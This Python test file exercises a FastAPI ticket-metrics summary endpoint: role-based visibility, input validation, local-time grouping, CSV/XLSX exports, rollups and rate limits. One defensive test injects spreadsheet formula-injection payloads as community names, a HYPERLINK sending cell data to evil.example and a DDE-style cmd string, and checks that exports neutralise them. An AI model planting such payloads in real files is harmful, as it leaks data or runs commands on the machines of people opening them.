"""The summary over HTTP: who sees which figures, bad input, exports."""

from __future__ import annotations

import csv
import datetime as dt
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from tests.conftest import World
from tests.metrics.helpers import category_ids, insert_tickets
from tests.metrics.test_summary import materialise

CREATED = dt.datetime(2026, 2, 10, 3, tzinfo=dt.UTC)
PERIOD = {"from": "2026-01-01", "to": "2026-07-01"}


def _world_tickets(db: Session, world: World) -> None:
    """Two tickets in each community; in community_k one was re-assigned to company."""
    ids = category_ids(db)
    specs = []
    for community in ("community_a", "community_b", "community_c", "community_k"):
        for i, category in enumerate(("repair.plumbing", "complaint.fees")):
            specs.append(
                {
                    "community": community,
                    "category": category,
                    "reassigned": community == "community_k" and i == 1,
                    "unassigned": False,
                    "created_at": CREATED + dt.timedelta(days=i),
                    "updated_at": CREATED + dt.timedelta(days=i, hours=6),
                    "status": "closed",
                    "respond_by": CREATED + dt.timedelta(days=i, hours=2),
                    "resolve_by": CREATED + dt.timedelta(days=i + 3),
                    "responded_at": CREATED + dt.timedelta(days=i, hours=1),
                    "resolved_at": CREATED + dt.timedelta(days=i, hours=6),
                    "paused_seconds": 0,
                    "rating": 5 - i,
                    "reopen_count": 0,
                    "followed_up": i == 0,
                }
            )
    tickets = [materialise(world, ids, s) for s in specs]
    insert_tickets(db, tickets, set(), world.reporter.user_id)
    db.commit()


def _summary(client: TestClient, actor, **params) -> dict:  # type: ignore[no-untyped-def]
    response = client.get("/v1/metrics/summary", params={**PERIOD, **params}, headers=actor.headers)
    assert response.status_code == 200, response.text
    return response.json()


def _by(rows: list[dict], name: str) -> dict:
    return {r["group"][name]["id"] if r["group"][name] else None: r for r in rows}


def test_each_caller_sees_only_their_figures(client: TestClient, db: Session, world: World) -> None:
    _world_tickets(db, world)
    province = _by(
        _summary(client, world.province_admin, group_by="community")["rows"], "community"
    )
    assert {k: r["created"] for k, r in province.items()} == {
        world.community_a: 2,
        world.community_b: 2,
        world.community_c: 2,
        world.community_k: 2,
    }
    county = _by(_summary(client, world.admin, group_by="community")["rows"], "community")
    assert set(county) == {world.community_a, world.community_b}
    kashi = _by(
        _summary(client, world.other_admin, group_by="organization")["rows"], "organization"
    )
    # community_k's re-assigned ticket counts for company, inside kashi_city's figures
    assert {k: r["created"] for k, r in kashi.items()} == {world.other_company: 1, world.company: 1}
    company = _summary(client, world.dispatcher, group_by="community")["rows"]
    assert {r["group"]["community"]["id"]: r["created"] for r in company} == {
        world.community_a: 2,
        world.community_b: 2,
        world.community_c: 2,
        world.community_k: 1,
    }
    other = _summary(client, world.other_dispatcher)["rows"]
    assert [r["created"] for r in other] == [1]
    care = _summary(client, world.care_dispatcher)["rows"]
    assert [r["created"] for r in care] == [0]


def test_out_of_scope_filters_answer_404(client: TestClient, world: World) -> None:
    for actor, params in (
        (world.other_admin, {"community_id": world.community_a}),
        (world.other_admin, {"region_id": world.tianshan}),
        (world.admin, {"organization_id": world.other_company}),
        (world.dispatcher, {"organization_id": world.other_company}),
        (world.other_dispatcher, {"community_id": world.community_a}),
    ):
        response = client.get(
            "/v1/metrics/summary", params={**PERIOD, **params}, headers=actor.headers
        )
        assert response.status_code == 404, (actor.name, params, response.text)
        missing = client.get(
            "/v1/metrics/summary",
            params={**PERIOD, **{k: 2**31 - 1 for k in params}},
            headers=actor.headers,
        )
        assert missing.status_code == 404
    for actor in (world.reporter, world.grid_worker):
        response = client.get("/v1/metrics/summary", headers=actor.headers)
        assert response.status_code == 403, response.text


def test_bad_input_is_422(client: TestClient, world: World) -> None:
    for params in (
        {"group_by": "organisation"},
        {"from": "2026-07-01", "to": "2026-01-01"},
        {"from": "yesterday"},
        {"category": "no.such"},
        {"from": "1990-01-01", "to": "2100-01-01", "group_by": "month"},
        {"kind": "gardening"},
    ):
        response = client.get(
            "/v1/metrics/summary", params=params, headers=world.province_admin.headers
        )
        assert response.status_code == 422, (params, response.text)
        assert response.headers["content-type"].startswith("application/problem+json")


def test_months_and_quarters_are_local(client: TestClient, db: Session, world: World) -> None:
    ids = category_ids(db)
    # 2026-03-31 17:00 UTC is 1 April 01:00 in Shanghai: April, Q2.
    late = dt.datetime(2026, 3, 31, 17, tzinfo=dt.UTC)
    spec = {
        "community": "community_a",
        "category": "repair.plumbing",
        "reassigned": False,
        "unassigned": False,
        "created_at": late,
        "updated_at": late,
        "status": "assigned",
        "respond_by": None,
        "resolve_by": None,
        "responded_at": None,
        "resolved_at": None,
        "paused_seconds": 0,
        "rating": None,
        "reopen_count": 0,
    }
    insert_tickets(db, [materialise(world, ids, spec)], set(), world.reporter.user_id)
    db.commit()
    rows = _summary(client, world.province_admin, group_by="month,quarter")["rows"]
    assert [(r["group"]["month"], r["group"]["quarter"], r["created"]) for r in rows] == [
        ("2026-04", "2026Q2", 1)
    ]


def test_exports(client: TestClient, db: Session, world: World) -> None:
    _world_tickets(db, world)
    response = client.get(
        "/v1/metrics/summary",
        params={**PERIOD, "group_by": "organization,quarter", "format": "csv"},
        headers={**world.province_admin.headers, "Accept-Language": "zh-CN,zh;q=0.9"},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0][:4] == ["服务企业", "季度", "工单数", "办结率"]
    assert "响应及时率" in table[0] and "满意率" in table[0]
    names = {row[0]: row for row in table[1:]}
    assert "天山物业服务有限公司" in names and names["天山物业服务有限公司"][1] == "2026Q1"

    english = client.get(
        "/v1/metrics/summary",
        params={**PERIOD, "group_by": "organization", "format": "xlsx", "lang": "en"},
        headers=world.province_admin.headers,
    )
    assert english.status_code == 200
    sheet = load_workbook(io.BytesIO(english.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("organization", "created", "completion_rate")
    created = {r[0]: r[1] for r in rows[1:]}
    assert created["天山物业服务有限公司"] == 7


def test_the_rollup_answers_once_built_with_the_same_counts(
    client: TestClient, db: Session, world: World
) -> None:
    from service.db import utcnow
    from service.metrics import rollup

    _world_tickets(db, world)
    db.commit()
    params = {"group_by": "organization,quarter"}
    live = _summary(client, world.admin, **params)
    assert live["source"] == "live" and live["rollup_refreshed_at"] is None
    rollup.rebuild(db, utcnow(), "Asia/Shanghai")
    db.commit()
    rolled = _summary(client, world.admin, **params)
    assert rolled["source"] == "rollup" and rolled["rollup_refreshed_at"]
    assert [(r["group"], r["counts"]) for r in rolled["rows"]] == [
        (r["group"], r["counts"]) for r in live["rows"]
    ]
    # A community is not in the rollup: the live query answers.
    by_community = _summary(client, world.admin, group_by="community")
    assert by_community["source"] == "live"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_exports_never_carry_a_live_formula(client: TestClient, db: Session, world: World) -> None:
    """A county admin names a community like a formula; the province admin's
    exports show it as text (OWASP CSV injection)."""
    _world_tickets(db, world)
    renamed = client.patch(
        f"/v1/communities/{world.community_a}", json={"name": FORMULA}, headers=world.admin.headers
    )
    assert renamed.status_code == 200, renamed.text
    client.patch(
        f"/v1/communities/{world.community_b}",
        json={"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
        headers=world.admin.headers,
    )
    params = {**PERIOD, "group_by": "community"}
    headers = world.province_admin.headers

    as_csv = client.get("/v1/metrics/summary", params={**params, "format": "csv"}, headers=headers)
    assert as_csv.status_code == 200, as_csv.text
    table = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    names = [row[0] for row in table[1:]]
    assert "'" + FORMULA in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    for row in table:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not (value.startswith("-") and not _is_number(value)), row

    as_xlsx = client.get(
        "/v1/metrics/summary", params={**params, "format": "xlsx"}, headers=headers
    )
    assert as_xlsx.status_code == 200, as_xlsx.text
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_expensive_reads_are_bounded_per_caller_and_per_process(
    client: TestClient, world: World
) -> None:
    """Four summaries in parallel by one technician slowed everyone's list from
    0.11 to 6.7 s: one at a time per caller (429), four per process (503). The
    gate is filled as requests in progress would fill it."""
    gate = client.app.state.read_gate
    url = "/v1/metrics/summary"
    me = client.get("/v1/me", headers=world.admin.headers).json()
    gate.enter(f"user:{me['user_id']}", 1)  # one of theirs in progress
    try:
        again = client.get(url, params=PERIOD, headers=world.admin.headers)
        assert again.status_code == 429, again.text
        assert again.headers["Retry-After"] == "1"
        assert again.headers["content-type"] == "application/problem+json"
        assert (
            client.get(url, params=PERIOD, headers=world.province_admin.headers).status_code == 200
        )
        for other in ("user:-1", "user:-2", "user:-3"):
            gate.enter(other, 1)
        full = client.get(url, params=PERIOD, headers=world.province_admin.headers)
        assert full.status_code == 503, full.text
        assert full.headers["Retry-After"] == "1"
        # Everything else is served as ever.
        assert client.get("/v1/tickets", headers=world.reporter.headers).status_code == 200
    finally:
        for caller in list(gate.callers):
            gate.leave(caller)
    assert client.get(url, params=PERIOD, headers=world.admin.headers).status_code == 200
    assert gate.callers.total() == 0  # every request counted out again, errors too
    client.get(url, params={"from": "bad"}, headers=world.admin.headers)
    assert gate.callers.total() == 0


def test_a_summary_of_more_groups_than_an_answer_holds_is_422(
    client: TestClient, db: Session, world: World
) -> None:
    _world_tickets(db, world)
    client.app.state.settings.metrics_max_rows = 2
    try:
        response = client.get(
            "/v1/metrics/summary",
            params={**PERIOD, "group_by": "community"},
            headers=world.province_admin.headers,
        )
    finally:
        client.app.state.settings.metrics_max_rows = 10_000
    assert response.status_code == 422, response.text
    assert response.json()["errors"][0]["field"] == "group_by"
